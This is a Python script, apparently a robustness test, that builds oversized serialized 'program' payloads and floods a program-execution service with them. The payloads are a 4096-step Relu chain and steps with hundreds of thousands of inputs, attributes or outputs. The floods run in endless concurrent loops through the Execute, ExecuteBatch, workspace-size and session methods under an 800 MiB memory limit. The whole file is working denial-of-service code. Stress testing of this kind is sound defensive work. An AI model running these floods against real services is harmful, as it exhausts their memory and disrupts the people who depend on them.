"""Programs as large as they may be, with their gradients, and larger ones: of more steps, of steps with more inputs,
attributes and outputs than an operator has; several at a time, in every method that takes calls.
"""

import http2
import wire
from attack import Attack, Target, run


def step(name: str, source: str, more: bytes = b"") -> bytes:
    """A step of a program: the Relu of a value."""
    return wire.field(1, wire.field(1, name) + wire.field(2, "Relu")
                      + wire.field(3, wire.field(1, "self") + wire.field(12, source)) + more)


# A program with as many steps as there may be, each planned, and its gradient; one with more; steps of many inputs,
# attributes and outputs.
CHAIN = b"".join(step(f"{number}", f"{number - 1}" if number else "x") for number in range(4096))
INPUT = wire.field(2, wire.field(1, "x") + wire.field(2, 1) + wire.packed(3, [1]) + wire.field(6, 0))
GRADIENT = wire.field(3, wire.field(1, "4095") + wire.field(2, "x"))
BOMBS = [
    INPUT + wire.field(7, CHAIN + wire.field(2, wire.field(1, "y") + wire.field(2, "4095")) + GRADIENT),
    INPUT + wire.field(7, step("a", "x") * 100_000),
    INPUT + wire.field(7, step("a", "x", wire.field(3, b"") * 900_000)),
    INPUT + wire.field(7, step("a", "x", wire.field(4, b"") * 900_000)),
    INPUT + wire.field(7, step("a", "x") + wire.field(2, b"") * 900_000),
    INPUT + wire.field(7, step("a", "x") + b"".join(
        wire.field(2, wire.field(1, f"{number:x}") + wire.field(2, "a")) for number in range(150_000))),
]


def bombs(target: Target) -> None:
    connection = target.connect(target.index)
    while True:
        for bomb in BOMBS:
            calls = [
                connection.start(method, wire.field(1, bomb) + wire.field(15, b"\0\0\0\0"))
                for method in ("Execute", "ExecuteBatch", "GetWorkspaceSize", "Execute")
            ]
            connection.poll_until(lambda: all(call.ended for call in calls), 5.0)
            for call in calls:
                connection.forget(call)


def in_sessions(target: Target) -> None:
    connection = target.connect(target.index)
    while True:
        for bomb in BOMBS:
            call = connection.begin(http2.SESSION)
            connection.message(
                call,
                wire.session_request([wire.command(wire.CREATE_CONTEXT, wire.field(1, 1), 1),
                                      wire.command(wire.EXECUTE, wire.field(1, bomb), 2)])
                + wire.field(15, b"\0\0\0\0"),
            )
            connection.await_end(call, 1.0)
            connection.forget(call)


if __name__ == "__main__":
    run(Attack([bombs, bombs, in_sessions], rss_mib=800))
